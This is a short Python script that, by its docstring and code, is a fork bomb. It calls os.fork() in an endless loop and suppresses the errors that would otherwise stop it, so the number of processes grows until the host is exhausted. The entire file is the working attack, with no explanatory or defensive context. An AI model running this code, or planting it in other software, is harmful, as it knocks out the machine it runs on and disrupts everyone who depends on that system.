"""Forks for ever; each copy does the same."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
